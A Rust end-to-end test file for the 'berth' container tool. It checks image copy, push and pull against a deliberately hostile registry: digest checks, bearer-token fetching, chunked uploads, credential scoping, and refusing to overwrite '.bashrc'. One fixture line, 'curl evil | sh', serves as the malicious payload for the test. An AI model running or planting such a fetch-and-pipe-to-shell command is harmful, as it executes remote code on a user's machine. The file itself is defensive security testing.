//! `berth image copy`, `push` and `pull` against a registry that lies
//! (`hostile_registry`): a trick is refused with one clear line, the documented exit
//! code and nothing left behind; a token service is used with the given credentials.
//! The client's own answers to each trick (sizes, endless bodies, redirect loops,
//! resumed blobs, Retry-After) are unit-tested beside it (berth-registry pull_tests.rs).

use berth_e2e::cli::berth;
use berth_e2e::hostile_registry::{honest, serve_image, whole, HostileRegistry, Reply, Request};
use berth_e2e::images::LayerTar;
use berth_image::copy::memory::{layer_tar, MemorySource};
use berth_image::Digest;
use serde_json::json;
use std::sync::Arc;

/// A valid one-layer image (a layer of some size, so that a cut can fall inside it).
fn image() -> MemorySource {
    let layer = layer_tar(&[("data", &[7u8; 300_000]), ("more", b"more")]);
    MemorySource::image(&[layer], "amd64")
}

/// What an honest registry answers for `image()` as `e2e/img`.
fn honest_image(r: &Request) -> Reply {
    honest(&image(), "e2e/img", r, &whole)
}

/// Copies from the registry into a new layout; returns exit code, stderr, and
/// whether the destination exists afterwards.
fn copy_from(registry: &HostileRegistry, extra: &[&str]) -> (Option<i32>, String, bool) {
    let dir = tempfile::tempdir().unwrap();
    let dest = dir.path().join("out");
    let source = format!("{}:1", registry.image("e2e/img"));
    let mut args = vec!["image", "copy", "--quiet", "--retries", "2"];
    args.extend_from_slice(extra);
    let dest_ref = format!("oci:{}", dest.display());
    args.extend_from_slice(&[&source, &dest_ref]);
    let out = berth(&args);
    let leftovers = std::fs::read_dir(dir.path()).unwrap().count() > 0;
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        leftovers,
    )
}

fn assert_refused(name: &str, (code, stderr, leftovers): (Option<i32>, String, bool), says: &str) {
    assert_eq!(code, Some(2), "{name}: exit 2: {stderr}");
    let errors: Vec<&str> = stderr.lines().filter(|l| l.contains("error:")).collect();
    assert_eq!(errors.len(), 1, "{name}: one error line: {stderr}");
    assert!(errors[0].contains(says), "{name}: says {says:?}: {stderr}");
    assert!(!leftovers, "{name}: nothing left behind");
}

#[test]
fn a_layer_with_the_wrong_digest_is_refused() {
    let r = serve_image(image(), "e2e/img", |_, layer| {
        let mut wrong = layer.to_vec();
        let last = wrong.len() - 1;
        wrong[last] ^= 1;
        Reply::ok(wrong, "application/octet-stream")
    });
    assert_refused("wrong digest", copy_from(&r, &[]), "digest");
}

#[test]
fn a_bearer_token_is_fetched_from_the_realm_with_the_credentials() {
    let host = Arc::new(std::sync::Mutex::new(String::new()));
    let realm_host = host.clone();
    let r = HostileRegistry::start(move |req| {
        if req.path.starts_with("/token") {
            // base64("alice:pw")
            return if req.header("Authorization") == Some("Basic YWxpY2U6cHc=") {
                Reply::ok(br#"{"token":"tok123"}"#.to_vec(), "application/json")
            } else {
                Reply::status(401, &[])
            };
        }
        if req.header("Authorization") != Some("Bearer tok123") {
            let challenge = format!(
                r#"Bearer realm="http://{}/token",service="hostile",scope="repository:e2e/img:pull""#,
                realm_host.lock().unwrap()
            );
            return Reply::status(401, &[("WWW-Authenticate", challenge.as_str())]);
        }
        honest_image(req)
    });
    *host.lock().unwrap() = r.host.clone();
    let (code, stderr, _) = copy_from(&r, &["--creds", "alice:pw"]);
    assert_eq!(code, Some(0), "{stderr}");
    let token_request = r
        .seen()
        .into_iter()
        .find(|q| q.path.starts_with("/token"))
        .unwrap();
    assert!(
        token_request.path.contains("service=hostile")
            && token_request
                .path
                .contains("scope=repository%3Ae2e%2Fimg%3Apull"),
        "{}",
        token_request.path
    );
    let (code, stderr, _) = copy_from(&r, &["--creds", "alice:nope"]);
    assert_eq!(code, Some(1), "a refused token is a failure: {stderr}");
}

/// A registry that takes uploads (and says what it was asked): every upload is
/// accepted, every blob is missing, a mount from `e2e/img` succeeds.
fn accepting(r: &Request) -> Reply {
    let path = r.path.as_str();
    match r.method.as_str() {
        "HEAD" => Reply::status(404, &[]),
        "POST" if path.contains("mount=") && path.contains("from=e2e/img") => {
            Reply::status(201, &[])
        }
        "POST" => Reply::status(
            202,
            &[("Location", "/v2/up/load/blobs/uploads/session?state=1")],
        ),
        "PATCH" => Reply::status(
            202,
            &[("Location", "/v2/up/load/blobs/uploads/session?state=2")],
        ),
        "PUT" => Reply::status(201, &[]),
        _ => honest_image(r),
    }
}

/// A one-layer image made in an OCI layout at `dir`, copied to `up/load:1` of `r`
/// (with `extra` arguments); the copy must succeed.
fn push_layout(dir: &std::path::Path, layer: Vec<u8>, r: &HostileRegistry, extra: &[&str]) {
    let layout = berth_image::Layout::create(dir).unwrap();
    let (digest, size) =
        berth_e2e::images::put_image(&layout, &[layer], true, "amd64", None, json!({}));
    berth_e2e::images::tag_manifest(&layout, "1", &digest, size);
    let src = format!("oci:{}:1", dir.display());
    let dest = format!("{}:1", r.image("up/load"));
    let mut args = vec!["image", "copy", "--quiet"];
    args.extend_from_slice(extra);
    args.extend_from_slice(&[&src, &dest]);
    let out = berth(&args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_large_blob_is_uploaded_in_chunks_and_a_blob_of_the_same_registry_is_mounted() {
    let r = HostileRegistry::start(accepting);
    // A layout with a 20 MiB layer (random bytes: gzip cannot shrink them).
    let dir = tempfile::tempdir().unwrap();
    let mut noise = vec![0u8; 20 << 20];
    let mut x: u64 = 0x9E3779B97F4A7C15;
    for b in noise.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = x as u8;
    }
    let layer = LayerTar::new().file("noise", &noise, 0o644).finish();
    push_layout(&dir.path().join("big"), layer, &r, &[]);
    let ranges: Vec<String> = r
        .seen()
        .iter()
        .filter(|q| q.method == "PATCH")
        .map(|q| q.header("Content-Range").unwrap_or("").to_string())
        .collect();
    let big = ranges.len();
    assert!(big >= 3, "a 20 MiB layer goes in 8 MiB chunks: {ranges:?}");
    assert_eq!(ranges[0], format!("0-{}", (8 << 20) - 1));
    assert_eq!(ranges[1], format!("{}-{}", 8 << 20, (16 << 20) - 1));
    let closing: Vec<Request> = r
        .seen()
        .into_iter()
        .filter(|q| q.method == "PUT" && q.path.contains("digest="))
        .collect();
    assert_eq!(
        closing.len(),
        2,
        "the config in one PUT, the layer closed by a PUT after its chunks"
    );

    // From the same registry, another repository: mounted, nothing uploaded.
    let r = HostileRegistry::start(accepting);
    let out = berth(&[
        "image",
        "copy",
        "--quiet",
        &format!("{}:1", r.image("e2e/img")),
        &format!("{}:1", r.image("other/img")),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = r.seen();
    let mounts = seen
        .iter()
        .filter(|q| q.method == "POST" && q.path.contains("mount="))
        .count();
    assert_eq!(mounts, 2, "config and layer mounted");
    assert!(
        !seen
            .iter()
            .any(|q| q.method == "PATCH" || (q.method == "PUT" && q.path.contains("/blobs/"))),
        "no blob uploaded"
    );
    assert!(
        seen.iter()
            .any(|q| q.method == "PUT" && q.path == "/v2/other/img/manifests/1"),
        "the manifest tagged"
    );
}

/// A registry holding one package artifact titled `title` whose blob answers with
/// `served` (the manifest lists `package`'s digest and size).
fn package_registry(title: &str, package: Vec<u8>, served: Vec<u8>) -> HostileRegistry {
    let digest = Digest::of(&package);
    let file = berth_image::artifact::File {
        media_type: "application/vnd.berth.package.v1.tar+gzip",
        digest: &digest,
        size: package.len() as u64,
        title,
    };
    let manifest = berth_image::artifact::manifest(
        "application/vnd.berth.package.v1",
        &file,
        None,
        serde_json::Map::new(),
    );
    let blob_path = format!("/v2/fleet/app/blobs/{digest}");
    HostileRegistry::start(move |req| {
        if req.path.contains("/manifests/") {
            Reply::ok(manifest.clone(), berth_image::manifest::OCI_MANIFEST)
        } else if req.path == blob_path {
            Reply::ok(served.clone(), "application/octet-stream")
        } else {
            Reply::status(404, &[])
        }
    })
}

/// `berth pull` from `r` into `dir`, with `extra` arguments.
fn pull(r: &HostileRegistry, dir: &std::path::Path, extra: &[&str]) -> std::process::Output {
    let source = format!("{}:1", r.image("fleet/app"));
    let out_dir = dir.display().to_string();
    let mut args = vec!["pull", "--retries", "0", &source, "--output-dir", &out_dir];
    args.extend_from_slice(extra);
    berth(&args)
}

#[test]
fn a_pulled_package_whose_bytes_do_not_match_leaves_nothing() {
    let package = b"not really a package, but bytes with a digest".to_vec();
    let mut tampered = package.clone();
    tampered[0] ^= 1;
    let r = package_registry("app.tar.gz", package, tampered);
    let dir = tempfile::tempdir().unwrap();
    let out = pull(&r, dir.path(), &[]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("digest"));
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        0,
        "no package, no temporary file"
    );
}

/// Issue 21, finding 3: the registry named the file `.bashrc` and berth pull replaced
/// the user's with a shell line; bytes that are no package were written as one.
#[test]
fn pull_writes_only_verified_packages_under_package_names_and_replaces_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let bashrc = dir.path().join(".bashrc");
    std::fs::write(&bashrc, "the user's own\n").unwrap();
    let line = b"curl evil | sh\n".to_vec();
    for title in [".bashrc", "notes.txt", ".hidden.tar.gz"] {
        let r = package_registry(title, line.clone(), line.clone());
        let out = pull(&r, dir.path(), &["--force"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{title}: {stderr}");
        assert!(
            stderr.contains("not a package file name"),
            "{title}: {stderr}"
        );
        assert_eq!(stderr.lines().count(), 1, "{title}: one line: {stderr}");
    }
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "the user's own\n"
    );
    // A package's name, but bytes that are not a package: refused, nothing left.
    let r = package_registry("app.tar.gz", line.clone(), line.clone());
    let out = pull(&r, dir.path(), &[]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let names = |d: &std::path::Path| -> Vec<String> {
        std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    };
    assert_eq!(names(dir.path()), vec![".bashrc".to_string()]);
    // A real package is not written over a file of its name without --force.
    let work = tempfile::tempdir().unwrap();
    let (path, _) = berth_e2e::signing::signed_app_package(work.path());
    let package = std::fs::read(path).unwrap();
    let r = package_registry("app.tar.gz", package.clone(), package.clone());
    let existing = dir.path().join("app.tar.gz");
    std::fs::write(&existing, "mine").unwrap();
    let out = pull(&r, dir.path(), &[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("--force"), "{stderr}");
    assert_eq!(std::fs::read_to_string(&existing).unwrap(), "mine");
    let out = pull(&r, dir.path(), &["--force"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read(&existing).unwrap(), package);
    let mut left = names(dir.path());
    left.sort();
    assert_eq!(left, vec![".bashrc".to_string(), "app.tar.gz".to_string()]);
}

/// Issue 21, finding 7: the registry's Authorization went to an absolute upload
/// `Location` on another host. Here the upload is sent where the registry says (it
/// may store blobs elsewhere), but with no credentials; a relative `Location` is
/// resolved against the request's URL, not glued to the host.
#[test]
fn credentials_stay_with_the_registry_that_asked_for_them() {
    const ALICE: &str = "Basic YWxpY2U6cHc="; // base64("alice:pw")
    let elsewhere = HostileRegistry::start(|r| match r.method.as_str() {
        "PATCH" => Reply::status(202, &[("Location", "/elsewhere/session?state=2")]),
        _ => Reply::status(201, &[]),
    });
    let upload_at = format!("http://{}/elsewhere/session?state=1", elsewhere.host);
    let r = HostileRegistry::start(move |req| {
        if req.header("Authorization") != Some(ALICE) {
            return Reply::status(401, &[("WWW-Authenticate", "Basic realm=\"hostile\"")]);
        }
        match req.method.as_str() {
            "HEAD" => Reply::status(404, &[]),
            "POST" if req.path.contains("/blobs/uploads/") => {
                Reply::status(202, &[("Location", upload_at.as_str())])
            }
            _ => Reply::status(201, &[]),
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let layer = LayerTar::new().file("a", b"a", 0o644).finish();
    push_layout(&dir.path().join("img"), layer, &r, &["--creds", "alice:pw"]);
    let there = elsewhere.seen();
    assert!(
        there
            .iter()
            .any(|q| q.method == "PUT" && q.path.contains("digest=")),
        "the blobs went where the Location said: {there:?}"
    );
    for q in &there {
        assert_eq!(
            q.header("Authorization"),
            None,
            "{} {} carried the registry's credentials",
            q.method,
            q.path
        );
    }
    // The manifest, on the registry itself, was sent with them.
    assert!(r
        .seen()
        .iter()
        .any(|q| q.method == "PUT" && q.path.contains("/manifests/1")));
}
